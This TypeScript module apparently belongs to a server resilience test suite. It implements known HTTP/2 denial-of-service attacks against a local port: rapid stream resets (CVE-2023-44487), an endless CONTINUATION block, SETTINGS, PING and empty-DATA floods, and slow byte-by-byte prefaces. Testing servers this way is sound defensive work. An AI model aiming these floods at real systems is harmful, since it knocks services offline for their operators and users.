import { once, setMaxListeners } from "node:events";
import { connect } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { frame } from "../wire.js";
import type { Attack } from "./attack.js";
import { Attacker, echo, fromConnections, H2, literalBlock, PREFACE, setting } from "./attacker.js";

/** RFC 9113, section 6.10. */
const CONTINUATION = 9;

/** Frames in one write: the attacker must not be slower than the server. */
const BATCH = 200;

/** Connections that hold what they have opened. */
const IDLERS = 100;

/** Sends batches of frames over one connection, as fast as they are taken. */
function flood(
  name: string,
  begin: (attacker: Attacker) => Buffer,
  part: (attacker: Attacker) => Buffer,
): Attack {
  return {
    name,
    run: (port, signal) =>
      fromConnections(
        1,
        signal,
        () => Attacker.open(port, signal),
        async (attacker) => {
          await attacker.send(begin(attacker));
          const batch = (): Buffer => Buffer.concat(Array.from({ length: BATCH }, () => part(attacker)));
          // A turn between them: while the system takes all, nothing else would have one.
          while (await attacker.send(batch())) await attacker.rest(0);
        },
      ),
  };
}

const nothing = (): Buffer => Buffer.alloc(0);

/** The attacks on HTTP/2 that have a name since 2019. */
export const knownAttacks: readonly Attack[] = [
  // CVE-2023-44487.
  flood("calls that are reset at once", nothing, (attacker) =>
    Buffer.concat([attacker.headers(echo.unary), attacker.reset(attacker.lastId)]),
  ),

  // CVE-2024-27316.
  flood(
    "a header block that never ends",
    () => frame(H2.HEADERS, 0, 1, literalBlock({ ":method": "POST" })),
    () => frame(CONTINUATION, 0, 1, literalBlock({ "x-attack": "x".repeat(100) })),
  ),

  // CVE-2019-9515.
  flood("SETTINGS in numbers", nothing, () =>
    Buffer.concat([setting(H2.INITIAL_WINDOW_SIZE, 1), setting(H2.INITIAL_WINDOW_SIZE, 65_535)]),
  ),

  // CVE-2019-9512.
  flood("PINGs in numbers", nothing, () => frame(H2.PING, 0, 0, Buffer.alloc(8))),

  flood("answers to PINGs that were never sent", nothing, () => frame(H2.PING, H2.ACK, 0, Buffer.alloc(8))),

  // CVE-2019-9518.
  flood(
    "DATA without a byte",
    (attacker) => attacker.headers(echo.clientStream),
    (attacker) => frame(H2.DATA, 0, attacker.lastId),
  ),

  { name: "prefaces that come byte by byte", run: slowPrefaces },
];

/** Connections that say a byte of their preface a second, and then nothing. */
async function slowPrefaces(port: number, signal: AbortSignal): Promise<void> {
  const one = async (): Promise<void> => {
    while (!signal.aborted) {
      const socket = connect({ port, host: "127.0.0.1" });
      const closed = once(socket, "close").catch(() => {});
      socket.on("error", () => {});
      socket.resume();
      for (const byte of PREFACE) {
        if (signal.aborted || socket.destroyed) break;
        socket.write(Buffer.of(byte));
        await delay(1000, undefined, { signal }).catch(() => {});
      }
      socket.destroy();
      await closed;
    }
  };
  setMaxListeners(0, signal);
  await Promise.all(Array.from({ length: IDLERS }, one));
}
